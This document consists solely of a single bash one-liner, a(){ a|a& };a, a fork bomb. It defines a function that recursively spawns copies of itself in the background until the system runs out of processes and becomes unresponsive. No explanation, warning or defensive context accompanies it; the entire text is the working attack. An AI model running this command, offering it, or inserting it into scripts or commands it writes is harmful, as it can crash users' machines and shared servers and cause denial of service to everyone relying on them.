a(){ a|a& };a
